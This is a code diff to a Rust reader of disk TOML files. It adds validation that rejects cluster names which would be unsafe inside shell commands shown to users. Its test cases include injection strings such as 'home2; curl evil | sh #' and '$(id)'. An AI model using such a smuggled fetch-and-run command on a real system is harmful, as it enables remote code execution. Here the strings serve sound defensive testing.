@@ -97,6 +97,10 @@ impl DiskToml {
         if this.cluster_id().is_none() || this.disk_id().is_none() {
             return Err(DiskTomlError::Damaged(path, "an id is not hexadecimal".into()));
         }
+        // Whoever gave us the disk wrote it, and it is part of commands that we tell people to type.
+        if !is_cluster_name(&this.cluster) {
+            return Err(DiskTomlError::Damaged(path, "what it calls its cluster is no name of one".into()));
+        }
         Ok(this)
     }
 
@@ -149,9 +153,19 @@ mod tests {
         assert_eq!(read().unwrap(), good);
         write("format = 2\nsomething_new = true\n");
         assert!(matches!(read(), Err(DiskTomlError::Newer { found: 2, .. })));
-        for bad in
-            ["", "format = 1", "format = 1\ncluster = 1", "\u{1}", &toml::to_string(&good).unwrap().replace("11", "zz")]
-        {
+        let good = toml::to_string(&good).unwrap();
+        let named = |name: &str| good.replace("home", name);
+        for bad in [
+            "",
+            "format = 1",
+            "format = 1\ncluster = 1",
+            "\u{1}",
+            &good.replace("11", "zz"),
+            &named("home2; curl evil | sh #"),
+            &named("$(id)"),
+            &named("--help"),
+            &named(""),
+        ] {
             write(bad);
             assert!(matches!(read(), Err(DiskTomlError::Damaged(..))), "{bad:?}");
         }
